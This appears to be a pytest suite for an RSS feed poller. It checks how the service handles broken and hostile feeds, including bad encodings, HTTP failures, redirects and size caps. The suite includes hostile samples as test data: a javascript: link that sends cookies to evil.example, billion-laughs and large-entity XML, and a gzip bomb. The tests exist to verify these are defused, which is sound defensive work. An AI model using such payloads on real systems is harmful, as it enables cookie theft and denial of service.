"""Hostile and broken feeds over real HTTP, through fetch + parse + poll, on SQLite and PostgreSQL.

Each case checks what the operator sees on the feed row (error_count, last_error) and that
nothing bad was stored.
"""

from __future__ import annotations

import gzip
import time
from datetime import timedelta
from email.utils import format_datetime
from typing import Any

import pytest
from fastapi.testclient import TestClient

from service.config import get_settings
from service.db import utcnow

BOZO = "malformed feed read leniently"


def rss(items: str, *, encoding: str = "utf-8", head: str = "") -> str:
    return (
        f'<?xml version="1.0" encoding="{encoding}"?>{head}<rss version="2.0"><channel>'
        f"<title>Wire</title><link>https://wire.example/</link><description>d</description>"
        f"{items}</channel></rss>"
    )


def item(n: int, *, guid: bool = True, date: bool = True, link: str | None = "auto") -> str:
    parts = [f"<title>Headline {n}</title>", f"<description>Story {n} text.</description>"]
    if link == "auto":
        parts.append(f"<link>https://wire.example/story/{n}</link>")
    elif link is not None:
        parts.append(f"<link>{link}</link>")
    if guid:
        parts.append(f"<guid>urn:wire:{n}</guid>")
    if date:
        parts.append(f"<pubDate>{format_datetime(utcnow() - timedelta(hours=n))}</pubDate>")
    return "<item>" + "".join(parts) + "</item>"


def feed_of(n: int) -> str:
    return rss("".join(item(i) for i in range(1, n + 1)))


def assert_failed(poller: Any, feed_id: int, *, error: str, status: int | None = None) -> None:
    feed = poller.feed(feed_id)
    assert feed.error_count == 1
    assert feed.last_error is not None and error in feed.last_error, feed.last_error
    assert feed.last_error_at is not None
    assert feed.last_status == status
    assert poller.items(feed_id) == []


# --- bodies that are not (quite) feeds ------------------------------------------------------------


def test_malformed_xml_is_read_leniently(db_url: str, poller: Any, local_server: Any) -> None:
    broken = rss(item(1) + item(2) + "<item><title>AT&T & co</title><link>https://wire.example/x</link>")
    feed_id = poller.add(local_server.serve("/feed", broken, headers={"Content-Type": "application/rss+xml"}))
    result = poller.poll(feed_id)
    assert result.error is None
    feed = poller.feed(feed_id)
    assert feed.error_count == 0
    assert feed.last_error and feed.last_error.startswith(BOZO)
    titles = {i.title for i in poller.items(feed_id)}
    assert {"Headline 1", "Headline 2"} <= titles


def test_unreadable_xml_is_a_clear_error(db_url: str, poller: Any, local_server: Any) -> None:
    feed_id = poller.add(local_server.serve("/feed", "<<<>>> \x01 not xml at all {", headers={}))
    result = poller.poll(feed_id)
    assert result.error and result.error.startswith("not a feed")
    assert_failed(poller, feed_id, error="not a feed", status=200)


def test_html_page_instead_of_a_feed(db_url: str, poller: Any, local_server: Any) -> None:
    page = "<!DOCTYPE html><html><head><title>News</title></head><body><a href='/rss'>RSS</a></body></html>"
    feed_id = poller.add(local_server.serve("/feed", page, headers={"Content-Type": "text/html"}))
    poller.poll(feed_id)
    assert_failed(poller, feed_id, error="not a feed: an HTML page", status=200)


def test_empty_body(db_url: str, poller: Any, local_server: Any) -> None:
    feed_id = poller.add(local_server.serve("/feed", b"", headers={"Content-Type": "application/rss+xml"}))
    poller.poll(feed_id)
    assert_failed(poller, feed_id, error="empty body", status=200)


LATIN1_ITEM = (
    "<item><guid>enc-1</guid><title>Café crème à Alep</title><description>Señor Müller</description></item>"
)


@pytest.mark.parametrize(
    ("declared", "header"),
    [
        ("utf-8", "application/rss+xml; charset=utf-8"),  # the bytes are latin-1 whatever both say
        ("iso-8859-1", "application/rss+xml; charset=utf-8"),  # the XML is right, the header wrong
        ("utf-8", None),  # no header, wrong declaration
    ],
    ids=["both-say-utf8", "xml-latin1-header-utf8", "no-header"],
)
def test_wrong_declared_encoding_still_gives_sane_text(
    db_url: str, poller: Any, local_server: Any, declared: str, header: str | None
) -> None:
    body = rss(LATIN1_ITEM, encoding=declared).encode("latin-1")
    feed_id = poller.add(
        local_server.serve("/feed", body, headers={"Content-Type": header} if header else {})
    )
    assert poller.poll(feed_id).error is None
    (stored,) = poller.items(feed_id)
    assert stored.title == "Café crème à Alep"
    assert stored.summary == "Señor Müller"
    feed = poller.feed(feed_id)
    assert feed.error_count == 0
    assert feed.last_error and "declared as" in feed.last_error  # the mismatch is noted for the operator


def test_utf8_bytes_with_a_latin1_xml_declaration_follow_the_header(
    db_url: str, poller: Any, local_server: Any
) -> None:
    body = rss(LATIN1_ITEM, encoding="iso-8859-1").encode("utf-8")
    url = local_server.serve("/feed", body, headers={"Content-Type": "application/rss+xml; charset=utf-8"})
    feed_id = poller.add(url)
    poller.poll(feed_id)
    (stored,) = poller.items(feed_id)
    assert stored.title == "Café crème à Alep"
    assert "Ã" not in stored.title + stored.summary  # no mojibake


# --- HTTP failures ---------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("status", "text"), [(404, "HTTP 404 Not Found"), (500, "HTTP 500 Internal Server Error")]
)
def test_http_errors(db_url: str, poller: Any, local_server: Any, status: int, text: str) -> None:
    feed_id = poller.add(local_server.serve("/feed", feed_of(2), status=status))
    before = utcnow()
    poller.poll(feed_id)
    assert_failed(poller, feed_id, error=text, status=status)
    interval = timedelta(seconds=get_settings().poll_interval_s)
    assert poller.feed(feed_id).next_check_at > before + interval * 1.5  # backed off past the interval


def test_a_second_failure_backs_off_further(db_url: str, poller: Any, local_server: Any) -> None:
    feed_id = poller.add(local_server.serve("/feed", "oops", status=500))
    now = utcnow()
    poller.poll(feed_id, now=now)
    first = poller.feed(feed_id).next_check_at - now
    poller.poll(feed_id, now=now)
    feed = poller.feed(feed_id)
    assert feed.error_count == 2
    assert feed.next_check_at - now > first * 1.2  # doubles, whatever the jitter


def test_timeout(db_url: str, poller: Any, local_server: Any, configure: Any) -> None:
    configure(fetch_timeout_s="0.5")

    def slow(_h: Any, _b: bytes) -> tuple[int, dict[str, str], bytes]:
        time.sleep(2.0)
        return 200, {}, feed_of(1).encode()

    local_server.routes["/slow"] = slow
    feed_id = poller.add(local_server.url("/slow"))
    poller.poll(feed_id)
    assert_failed(poller, feed_id, error="timed out", status=None)


def test_body_over_the_size_cap(db_url: str, poller: Any, local_server: Any, configure: Any) -> None:
    configure(fetch_max_bytes="20000")
    feed_id = poller.add(local_server.serve("/big", feed_of(300)))
    poller.poll(feed_id)
    assert_failed(poller, feed_id, error="20,000-byte cap", status=200)


def test_gzip_body_that_inflates_past_the_cap(
    db_url: str, poller: Any, local_server: Any, configure: Any
) -> None:
    configure(fetch_max_bytes="20000")
    bomb = gzip.compress(rss(item(1) + "<!--" + " " * 5_000_000 + "-->").encode())
    assert len(bomb) < 20000  # small on the wire: only the inflated size can trip the cap
    url = local_server.serve("/bomb", bomb, headers={"Content-Encoding": "gzip", "Content-Type": "text/xml"})
    feed_id = poller.add(url)
    poller.poll(feed_id)
    assert_failed(poller, feed_id, error="over the 20,000-byte cap", status=200)


def test_gzip_body_within_the_cap_is_read(db_url: str, poller: Any, local_server: Any) -> None:
    url = local_server.serve("/gz", gzip.compress(feed_of(3).encode()), headers={"Content-Encoding": "gzip"})
    feed_id = poller.add(url)
    poller.poll(feed_id)
    assert len(poller.items(feed_id)) == 3


def test_redirect_loop(db_url: str, poller: Any, local_server: Any) -> None:
    local_server.serve("/a", "", status=302, headers={"Location": local_server.url("/b")})
    local_server.serve("/b", "", status=302, headers={"Location": local_server.url("/a")})
    feed_id = poller.add(local_server.url("/a"))
    poller.poll(feed_id)
    assert_failed(poller, feed_id, error="too many redirects", status=None)


def test_redirect_to_a_non_allowed_address_is_refused(
    db_url: str, poller: Any, local_server: Any, configure: Any
) -> None:
    # Only the host name "localhost" is allowed. The redirect points at 127.0.0.1 - the same server,
    # so the request would succeed if the guard let it through - and the guard must refuse it.
    configure(allow_private='["localhost"]')
    port = local_server.base.rsplit(":", 1)[1]
    local_server.serve("/feed", feed_of(2))
    local_server.serve("/go", "", status=302, headers={"Location": f"http://127.0.0.1:{port}/feed"})
    public = poller.add(f"http://localhost:{port}/feed")
    hop = poller.add(f"http://localhost:{port}/go")

    poller.poll(public)
    assert len(poller.items(public)) == 2  # control: the allowed name reaches the server
    poller.poll(hop)
    assert_failed(poller, hop, error="blocked: 127.0.0.1 resolves to 127.0.0.1", status=None)
    assert [r[1] for r in local_server.requests] == ["/feed", "/go"]  # the redirect was never followed


# --- entries that need care -------------------------------------------------------------------------


def test_items_without_guid_or_date_are_stored_once(db_url: str, poller: Any, local_server: Any) -> None:
    body = rss(
        item(1, guid=False, date=False)  # identity: the link
        + item(2, guid=False, date=False, link=None)  # identity: title + summary
        + item(3, guid=False, date=False, link=None)
    )
    feed_id = poller.add(local_server.serve("/feed", body))
    before = utcnow()
    poller.poll(feed_id)
    stored = poller.items(feed_id)
    assert sorted(i.title for i in stored) == ["Headline 1", "Headline 2", "Headline 3"]
    assert all(i.date_missing and i.guid is None for i in stored)
    assert all(i.published_at >= before - timedelta(seconds=1) for i in stored)  # the fetch time stands in
    assert poller.poll(feed_id).new_item_ids == []  # no ETag: fetched and parsed again, nothing new
    assert len(poller.items(feed_id)) == 3


def test_duplicate_guids_are_stored_once(db_url: str, poller: Any, local_server: Any) -> None:
    dup = "<item><guid>urn:same</guid><title>Version {n}</title><description>x</description></item>"
    feed_id = poller.add(local_server.serve("/feed", rss(dup.format(n=1) + dup.format(n=2) + item(9))))
    poller.poll(feed_id)
    local_server.serve("/feed", rss(dup.format(n=3) + item(9)))
    poller.poll(feed_id)
    stored = poller.items(feed_id)
    assert sorted(i.title for i in stored) == ["Headline 9", "Version 1"]
    assert poller.feed(feed_id).items_seen == 2


BILLION_LAUGHS = (
    '<?xml version="1.0"?>\n<!DOCTYPE rss [\n<!ENTITY lol "lol">\n'
    + "".join(
        f'<!ENTITY lol{n} "{("&lol" + (str(n - 1) if n > 1 else "") + ";") * 10}">\n' for n in range(1, 10)
    )
    + ']>\n<rss version="2.0"><channel><title>Laughs</title>'
    "<item><guid>bl</guid><title>&lol9;</title><description>&lol9; &lol9;</description></item>"
    "</channel></rss>"
)


def large_entity() -> str:
    ref = "&big;" * 2000
    return (
        f'<?xml version="1.0"?>\n<!DOCTYPE rss [\n<!ENTITY big "{"A" * 20_000}">\n]>\n'
        f'<rss version="2.0"><channel><title>Big</title><item><guid>big</guid><title>big {ref}</title>'
        f"<description>{ref}</description></item></channel></rss>"
    )


@pytest.mark.parametrize("body", [BILLION_LAUGHS, large_entity()], ids=["billion-laughs", "large-entity"])
def test_entity_expansion_is_defused(db_url: str, poller: Any, local_server: Any, body: str) -> None:
    feed_id = poller.add(local_server.serve("/feed", body, headers={"Content-Type": "application/rss+xml"}))
    poller.poll(feed_id)
    stored = poller.items(feed_id)
    total = sum(len(i.title) + len(i.summary) for i in stored)
    assert total < 100_000
    assert all("lollol" not in i.summary and "AAAA" not in i.summary for i in stored)
    feed = poller.feed(feed_id)
    assert feed.last_error is None or BOZO in feed.last_error or "not a feed" in feed.last_error


def test_javascript_link_is_not_stored(db_url: str, poller: Any, local_server: Any) -> None:
    body = rss(item(1, link="javascript:fetch('//evil.example/'+document.cookie)") + item(2))
    feed_id = poller.add(local_server.serve("/feed", body))
    poller.poll(feed_id)
    urls = {i.title: i.url for i in poller.items(feed_id)}
    assert urls == {"Headline 1": None, "Headline 2": "https://wire.example/story/2"}


# --- conditional GET and what a server asks of us ---------------------------------------------------


def conditional(header: str, value: str, body: str) -> Any:
    """A route that answers 304 when the request carries the validator it handed out."""
    seen: list[str | None] = []

    def route(handler: Any, _b: bytes) -> tuple[int, dict[str, str], bytes]:
        presented = handler.headers.get("If-None-Match" if header == "ETag" else "If-Modified-Since")
        seen.append(presented)
        if presented == value:
            return 304, {header: value}, b""
        return 200, {header: value, "Content-Type": "application/rss+xml"}, body.encode()

    route.seen = seen  # type: ignore[attr-defined]
    return route


@pytest.mark.parametrize(
    ("header", "value"), [("ETag", '"v1-abc"'), ("Last-Modified", "Wed, 01 May 2024 10:00:00 GMT")]
)
def test_not_modified_on_repoll(
    db_url: str, poller: Any, local_server: Any, monkeypatch: pytest.MonkeyPatch, header: str, value: str
) -> None:
    route = conditional(header, value, feed_of(3))
    local_server.routes["/feed"] = route
    feed_id = poller.add(local_server.url("/feed"))
    assert len(poller.poll(feed_id).new_item_ids) == 3

    from service.feeds import service as feeds_service

    def no_parse(*_a: Any, **_k: Any) -> None:
        raise AssertionError("a 304 must not be parsed")

    monkeypatch.setattr(feeds_service, "parse", no_parse)
    for _ in range(2):
        result = poller.poll(feed_id)
        assert result.status == 304 and result.new_item_ids == []
    feed = poller.feed(feed_id)
    assert route.seen == [None, value, value]
    assert (feed.polls, feed.polls_not_modified, feed.error_count) == (3, 2, 0)
    assert len(poller.items(feed_id)) == 3


def test_429_with_retry_after_seconds(db_url: str, poller: Any, local_server: Any) -> None:
    feed_id = poller.add(
        local_server.serve("/feed", "slow down", status=429, headers={"Retry-After": "7200"})
    )
    now = utcnow()
    poller.poll(feed_id, now=now)
    feed = poller.feed(feed_id)
    assert feed.error_count == 1 and "HTTP 429" in (feed.last_error or "")
    assert feed.next_check_at >= now + timedelta(seconds=7200)


def test_503_with_retry_after_date(db_url: str, poller: Any, local_server: Any) -> None:
    now = utcnow()
    later = format_datetime(now + timedelta(hours=3), usegmt=True)
    feed_id = poller.add(
        local_server.serve("/feed", "maintenance", status=503, headers={"Retry-After": later})
    )
    poller.poll(feed_id, now=now)
    feed = poller.feed(feed_id)
    assert feed.error_count == 1 and "HTTP 503" in (feed.last_error or "")
    assert feed.next_check_at >= now + timedelta(hours=3) - timedelta(seconds=2)


def test_retry_after_is_capped(db_url: str, poller: Any, local_server: Any) -> None:
    feed_id = poller.add(
        local_server.serve("/feed", "go away", status=429, headers={"Retry-After": "9999999"})
    )
    now = utcnow()
    poller.poll(feed_id, now=now)
    assert poller.feed(feed_id).next_check_at <= now + timedelta(days=1, seconds=1)


# --- many feeds, and the operator's view --------------------------------------------------------------


def test_one_broken_feed_never_stops_the_others(db_url: str, poller: Any, local_server: Any) -> None:
    from service.feeds import service as feeds

    good_a = poller.add(local_server.serve("/a", feed_of(2)))
    broken = poller.add(local_server.serve("/broken", "boom", status=500))
    html = poller.add(local_server.serve("/html", "<html><body>hi</body></html>"))
    good_b = poller.add(local_server.serve("/b", rss(item(7))))
    with poller.new_session.begin() as session:
        due = feeds.lease_due(session, now=utcnow())
    assert sorted(due) == sorted([good_a, broken, html, good_b])
    results = {feed_id: poller.poll(feed_id) for feed_id in due}
    assert results[broken].error and results[html].error
    assert len(poller.items(good_a)) == 2 and len(poller.items(good_b)) == 1
    assert poller.feed(good_a).error_count == 0 and poller.feed(broken).error_count == 1
    with poller.new_session.begin() as session:
        assert feeds.lease_due(session, now=utcnow()) == []  # all polled: none due, none leased


def test_the_error_is_visible_through_the_api(db_url: str, poller: Any, local_server: Any) -> None:
    from service.api import create_app
    from service.auth import service as keys

    feed_id = poller.add(local_server.serve("/feed", "", status=500))
    ok_id = poller.add(local_server.serve("/ok", feed_of(1)))
    poller.poll(feed_id)
    poller.poll(ok_id)
    with poller.new_session.begin() as session:
        _, admin = keys.create(session, name="t", role="admin", now=utcnow())
    with TestClient(create_app()) as client:
        shown = client.get(f"/api/v1/feeds/{feed_id}", headers={"Authorization": f"Bearer {admin}"})
        fine = client.get(f"/api/v1/feeds/{ok_id}", headers={"Authorization": f"Bearer {admin}"})
    assert shown.status_code == 200
    body = shown.json()
    assert body["healthy"] is False
    assert body["error_count"] == 1
    assert body["last_error"] == "HTTP 500 Internal Server Error"
    assert body["last_status"] == 500
    assert fine.json()["healthy"] is True and fine.json()["last_error"] is None
